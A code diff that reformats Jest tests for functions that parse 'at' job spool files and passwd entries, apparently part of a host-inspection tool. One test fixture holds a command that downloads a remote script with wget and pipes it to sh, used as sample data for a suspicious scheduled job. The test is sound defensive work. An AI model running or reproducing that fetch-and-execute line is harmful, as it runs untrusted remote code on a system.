@@ -37,7 +37,10 @@ describe('parseAtJob', () => {
     expect(parseAtJob(NEW_FORMAT, '/var/spool/cron/atjobs/a0000301c2b3c4')).toEqual({
       uid: 1001,
       commands: [
-        { command: 'wget -q -O- http://198.51.100.7/i.sh | sh', where: { path: '/var/spool/cron/atjobs/a0000301c2b3c4', line: 14 } },
+        {
+          command: 'wget -q -O- http://198.51.100.7/i.sh | sh',
+          where: { path: '/var/spool/cron/atjobs/a0000301c2b3c4', line: 14 },
+        },
         { command: 'touch /tmp/done', where: { path: '/var/spool/cron/atjobs/a0000301c2b3c4', line: 16 } },
       ],
     });
@@ -52,7 +55,10 @@ describe('parseAtJob', () => {
 
   it('without a cd block, skips the preamble lines', () => {
     const text = '#!/bin/sh\numask 22\nPATH=/bin; export PATH\n/usr/bin/backup --now\n';
-    expect(parseAtJob(text, '/j')).toEqual({ uid: null, commands: [{ command: '/usr/bin/backup --now', where: { path: '/j', line: 4 } }] });
+    expect(parseAtJob(text, '/j')).toEqual({
+      uid: null,
+      commands: [{ command: '/usr/bin/backup --now', where: { path: '/j', line: 4 } }],
+    });
   });
 });
 
@@ -70,7 +76,9 @@ describe('atJobName', () => {
 
 describe('passwdNames', () => {
   it('maps uids to the first name', () => {
-    const names = passwdNames('root:x:0:0::/root:/bin/sh\n# c\nalice:x:1001:1001::/home/alice:/bin/bash\ntoor:x:0:0::/:/bin/sh\nbroken\n');
+    const names = passwdNames(
+      'root:x:0:0::/root:/bin/sh\n# c\nalice:x:1001:1001::/home/alice:/bin/bash\ntoor:x:0:0::/:/bin/sh\nbroken\n',
+    );
     expect([...names]).toEqual([
       [0, 'root'],
       [1001, 'alice'],
